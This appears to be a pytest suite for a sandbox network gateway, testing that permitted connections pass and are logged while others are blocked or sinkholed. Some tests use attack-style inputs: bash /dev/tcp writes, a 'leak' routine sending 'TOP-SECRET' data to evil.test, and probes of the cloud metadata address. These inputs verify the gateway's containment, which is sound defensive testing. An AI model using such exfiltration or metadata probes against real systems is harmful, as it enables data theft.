"""The gateway, end to end: programs that know nothing of it reach what is allowed, and all of it is on record."""

from __future__ import annotations

import contextlib
import shutil
import socket
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from scenario_lab import Lab, python
from scenario_network import Acted, act, digesting, greeting, options, serving, web

import policies
import probes
import supervisor

pytestmark = pytest.mark.kernel("witness", "overlay", "cgroup", "gateway")

REACHING = """
act("get", lambda: get("api.test"))
act("sixth", lambda: get("api.test", family=socket.AF_INET6))
def in_sixth():
    sock = socket.socket(socket.AF_INET6)
    sock.connect(("::ffff:" + socket.gethostbyname("api.test"), 80))
    sock.sendall(request("api.test"))
    return whole(sock)
act("mapped form", in_sixth)
def kept_alive():
    sock = to("api.test")
    for path in ("/1", "/2"):
        sock.sendall(f"GET {path} HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n".encode())
        assert b"hello" in sock.recv(1000)
    return "both"
act("kept alive", kept_alive)
def by_bits():
    sock = to("api.test")
    for byte in request("api.test", "/bits"):
        sock.send(bytes([byte]))
        time.sleep(0.001)
    return whole(sock)
act("bit by bit", by_bits)
def first_word():
    sock = to("mail.test", 25)
    said = sock.recv(100)
    sock.sendall(b"QUIT\\r\\n")
    return said.decode() + whole(sock)
act("server first", first_word)
def bulk():
    sock, block = to("bulk.test", 9000), os.urandom(1 << 20)
    digest = hashlib.sha256()
    sock.sendall(b"\\x00")
    digest.update(b"\\x00")
    for _ in range(24):
        sock.sendall(block)
        digest.update(block)
    sock.shutdown(socket.SHUT_WR)
    return [digest.hexdigest(), len(whole(sock))]
act("bulk", bulk)
def own_resolver(server, family=socket.AF_INET):
    sock = socket.socket(family, socket.SOCK_DGRAM)
    sock.settimeout(10)
    sock.sendto(question("api.test"), (server, 53))
    answer, source = sock.recvfrom(500)
    return [answer[7], source[0]]
act("own resolver", lambda: own_resolver("192.0.2.53"))
act("own resolver, sixth", lambda: own_resolver("2001:db8::53", socket.AF_INET6))
def over_tcp():
    asked = question("api.test")
    sock = socket.create_connection(("198.51.100.53", 53), 10)
    sock.sendall(struct.pack("!H", len(asked)) + asked)
    return sock.recv(500)[9]
act("own resolver, tcp", over_tcp)
def child():
    if not (pid := os.fork()):
        get("api.test", "/child")
        os._exit(0)
    os.waitpid(pid, 0)
    return "ended"
act("short-lived", child)
act("own name", lambda: socket.gethostbyname(socket.gethostname()))
def own_address():
    listener = socket.create_server(("", 0))
    peer = socket.create_connection(("192.0.2.2", listener.getsockname()[1]), 10)
    return peer.getpeername()[0]
act("own address", own_address)
"""


@pytest.fixture(scope="module")
def reached(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Acted]:
    """One trial that reaches all that it may, in many ways."""
    lab = make_lab(tmp_path_factory.mktemp("network"))
    with contextlib.ExitStack() as stack:
        api, mail, bulk = (stack.enter_context(serving(how)) for how in (web, greeting, digesting))
        acted = act(lab, REACHING, *options(api_80=api, mail_25=mail, bulk_9000=bulk))
        acted.results["told"] = [head.decode("latin-1") for head in api.told]
        acted.results["digest"] = bulk.told[0].decode()
        yield acted


def make_lab(place: Path) -> Lab:
    """Make a lab in a directory."""
    for name, mode in (("home", 0o700), ("work", 0o755)):
        (place / name).mkdir(mode=mode)
    return Lab(place / "home", place / "work")


@pytest.mark.parametrize("how", ["get", "sixth", "mapped form", "bit by bit"])
def test_an_allowed_name_is_reached(reached: Acted, how: str) -> None:
    """By IPv4, by IPv6, by one in the form of the other, and however the request is cut."""
    assert reached.results[how].endswith("hello"), reached.results


def test_a_connection_is_kept_alive(reached: Acted) -> None:
    """Requests one after the other on one connection pass while they name the host."""
    assert reached.results["kept alive"] == "both"
    assert [head.split()[1] for head in reached.results["told"] if head.split()[1] in ("/1", "/2")] == ["/1", "/2"]


def test_a_server_may_speak_first(reached: Acted) -> None:
    """A protocol that names nobody, in which the client waits: by the address alone."""
    assert reached.results["server first"] == "220 ready\r\nbye\r\n"


def test_many_bytes_pass_unchanged_in_both_directions(reached: Acted) -> None:
    """And an end of one direction is passed on while the other goes on."""
    digest, back = reached.results["bulk"]
    assert digest == reached.results["digest"]
    assert back == 24 * (1 << 20) + 1
    (flow,) = reached.flows(host="bulk.test")
    assert (flow["bytes_out"], flow["bytes_in"]) == (back, back)


@pytest.mark.parametrize(
    ("how", "found"), [("own resolver", [1, "192.0.2.53"]), ("own resolver, sixth", [1, "2001:db8::53"])]
)
def test_a_program_with_a_resolver_of_its_own_is_answered(reached: Acted, how: str, found: list[object]) -> None:
    """Whatever server it asks, one answer comes, from the address that it asked."""
    assert reached.results[how] == found


def test_questions_over_tcp_are_answered(reached: Acted) -> None:
    """The same, with a length before it."""
    assert reached.results["own resolver, tcp"] == 1


def test_who_did_it_is_known_even_when_it_ended_at_once(reached: Acted) -> None:
    """The process of each connection is the kernel's word at the moment of the first packet."""
    processes = {one["id"]: one for one in reached.ran.report["effects"]["processes"]}
    (child,) = [flow for flow in reached.flows(host="api.test") if flow["process"] not in {None, main_of(reached)}]
    assert child["process"] in processes
    assert child["connections"] == 1
    assert all(event.get("process") for event in reached.events["connection.allowed"])
    assert all(event.get("process") for event in reached.events["name.asked"])


def main_of(acted: Acted) -> str:
    """Give the process that did most."""
    return str(acted.flows(host="bulk.test")[0]["process"])


def test_the_box_keeps_its_own_names_and_addresses(reached: Acted) -> None:
    """Its own name is loopback; its own address is itself; neither is a flow."""
    assert reached.results["own name"].startswith("127.")
    assert reached.results["own address"] == "192.0.2.2"
    assert not reached.flows(ip="192.0.2.2")


def test_nothing_of_it_violates_and_the_accounts_agree(reached: Acted) -> None:
    """Clean, no gap on the network, and every connection that the kernel saw begin is one that the gateway tells of."""
    ran = reached.ran
    assert [one for one in ran.report["scope"]["violations"] if "test" in one["text"]] == []
    (network,) = [one for one in ran.report["coverage"] if one["route"] == "network"]
    assert (network["witnesses"], network["complete"]) == (["kernel", "gateway"], True)
    (counted,), (stopped,) = reached.events["trial.counted"], reached.events["gateway.stopped"]
    assert counted["gateway_starts"] == stopped["connections"] > 0
    assert counted["gateway_bytes"] >= stopped["received_bytes"] > 24 << 20
    assert counted["egress_packets"] == 0


def test_a_host_that_was_sent_something_leaves_finality_alone(reached: Acted) -> None:
    """What a server outside keeps is met by other runs: it is an open effect of that kind only."""
    assert reached.ran.finality == "final"
    effects = [one for one in reached.ran.report["open_effects"] if one["route"] == "network"]
    assert {effect["could_affect"][0] for effect in effects} == {"runs"}
    assert any("bulk.test:9000" in effect["what"] for effect in effects)


REFUSED = "echo x > /dev/tcp/203.0.113.7/443; echo x > /dev/udp/203.0.113.7/53; true"


@pytest.mark.parametrize(("script", "after"), [(REFUSED, False), (f"(sleep 0.3; {REFUSED}) & exit 0", True)])
def test_what_was_tried_before_the_endpoint_is_not_told_after_it(
    lab: Lab,
    script: str,
    after: bool,  # noqa: FBT001 - a parameter of the test
) -> None:
    """The gateway tells of it when it comes round to it, mostly after CMD has ended; a straggler tries it later."""
    ran = lab.run("--", "bash", "-c", script)
    flows = ran.report["effects"]["network"]
    assert [(flow["protocol"], flow["after_endpoint"]) for flow in flows] == [("tcp", after), ("dns", after)]
    assert (b"after the endpoint [" in lab.call("show", "last").stdout) is after


CLIENT = """
import os, socket, sys, time
sock = socket.create_connection(("api.test", 80))
sock.sendall(b"GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n")
assert b"hello" in sock.recv(1000)
"""


@pytest.mark.parametrize(
    ("ending", "open_then"),
    [
        ("sock.close(); os.fork() or time.sleep(0.3)", False),
        ("os.fork() or time.sleep(0.3); os._exit(0)", True),
        ("os._exit(0)", False),
        ("os.fork() or (sock.close(), time.sleep(0.4)); time.sleep(0.1); os._exit(0)", False),
    ],
)
def test_a_connection_is_open_at_the_endpoint_when_somebody_holds_it(
    lab: Lab,
    ending: str,
    open_then: bool,  # noqa: FBT001 - a parameter of the test
) -> None:
    """Closed, or ended with CMD, it is not; a child that has it still holds it."""
    with serving(web) as api:
        ran = lab.run(*options(api_80=api), "--", *python(CLIENT + ending))
    (effect,) = [one for one in ran.report["open_effects"] if one["route"] == "network"]
    assert ("open at the endpoint" in effect["what"]) is open_then
    assert "being passed on" not in effect["what"]


def test_what_a_client_had_said_when_it_ended_is_told_when_it_arrives_later(lab: Lab) -> None:
    """It had left, and its server read on: that was sent before the endpoint, and arrived after it."""

    def sleepy(sock: socket.socket, told: list[bytes]) -> None:
        time.sleep(1.0)
        size = 0
        while data := sock.recv(1 << 20):
            size += len(data)
        told.append(str(size).encode())

    source = """
import os, socket, time
if not os.fork():
    time.sleep(1.5)  # as long as the trial lasts, the gateway passes on
    os._exit(0)
sock = socket.create_connection(("bulk.test", 9000))
sock.settimeout(0.2)
sock.sendall(b"\\x00")
try:
    while True:
        sock.send(bytes(1 << 16))
except TimeoutError:
    os._exit(0)
"""
    with serving(sleepy) as bulk:
        ran = lab.run(*options(bulk_9000=bulk), "--", *python(source))
    (effect,) = [one for one in ran.report["open_effects"] if one["route"] == "network"]
    assert "1 of them left by then and still being passed on" in effect["what"]
    assert "open at the endpoint" not in effect["what"]
    (flow,) = ran.report["effects"]["network"]
    assert flow["after_endpoint"] is False


def test_a_sinkhole_keeps_what_would_have_been_sent(lab: Lab) -> None:
    """Every name has an address, every connection is accepted, nothing is passed on, and the first bytes are kept."""
    policy = lab.home.parent / "sink.toml"
    policy.write_text('schema = 1\nname = "sink"\n[network]\ndefault = "sinkhole"\n', encoding="utf-8")
    source = """
def leak(host):
    sock = to(host, 443)
    sock.sendall(b"TOP-" + b"SECRET " + host.encode() + b"x" * 9000)
    sock.close()
    return "sent"
act("named", lambda: leak("evil.test"))
act("bare", lambda: leak("203.0.113.9"))
"""
    acted = act(lab, source, "-p", str(policy))
    assert acted.results == {"named": "sent", "bare": "sent"}
    kept = {event.get("host") or event["ip"]: event for event in acted.events["connection.closed"]}
    for host in ("evil.test", "203.0.113.9"):
        assert kept[host]["data_out"].startswith(f"TOP-SECRET {host}")
        assert len(kept[host]["data_out"]) == 4096
        assert kept[host]["bytes_out"] == 0
        assert kept[host]["kept_bytes"] > 9000
    assert acted.flows(host="evil.test", decision="sinkholed", port=443)
    assert acted.flows(ip="203.0.113.9", decision="sinkholed", port=443)
    assert acted.ran.scope == "violated"


def test_what_is_allowed_by_default_is_still_recorded_and_never_the_host(lab: Lab) -> None:
    """`default = "allow"` needs no rule for a name; metadata services and the host's own network stay out of reach."""
    policy = lab.home.parent / "open.toml"
    with serving(web) as api, serving(web) as host:
        policy.write_text(
            f'schema = 1\nname = "o"\n[network]\ndefault = "allow"\nmap = {{"api.test:80" = "127.0.0.1:{api.port}"}}\n',
            encoding="utf-8",
        )
        source = f"""
act("mapped", lambda: get("api.test"))
for name in ("169.254.169.254", "10.1.2.3", "64:ff9b::7f00:1"):
    family = socket.AF_INET6 if ":" in name else socket.AF_INET
    act(name, lambda: get(name, port={host.port}, family=family))
"""
        acted = act(lab, source, "-p", str(policy))
        assert acted.results["mapped"].endswith("hello")
        for name in ("169.254.169.254", "10.1.2.3", "64:ff9b::7f00:1"):
            assert acted.results[name] == "ConnectionResetError"
            assert acted.flows(ip=name, decision="blocked")
        assert host.told == []
        assert acted.flows(host="api.test", decision="allowed")


PRIVATE = """
act("pointer", lambda: socket.gethostbyaddr(socket.gethostbyname("api.test"))[0])
def swallowed():
    sock = socket.create_connection(("203.0.113.9", 80), 5)
    sock.sendall(b"for nobody")
    sock.close()
    return "sent"
act("swallowed", swallowed)
"""


def test_it_works_where_only_its_owner_may_read(lab: Lab, tmp_path: Path) -> None:
    """The gateway is nobody when it decides, who may not read below another's home: by then it has all it needs."""
    place = tmp_path / "private"
    place.mkdir(mode=0o700)
    for package in (supervisor, policies, probes):
        whole_package = Path(package.__path__[0])
        shutil.copytree(whole_package, place / whole_package.name, ignore=shutil.ignore_patterns("__pycache__"))
    lab.environ["PYTHONPATH"] = str(place)
    policy = tmp_path / "policy.toml"
    policy.write_text('schema = 1\nname = "sink"\n[network]\ndefault = "sinkhole"\n', encoding="utf-8")
    tried = act(lab, PRIVATE, "--policy", str(policy))
    assert tried.results == {"pointer": "api.test", "swallowed": "sent"}
    assert tried.flows(ip="203.0.113.9", decision="sinkholed")
    assert tried.ran.finality == "final", tried.ran.err
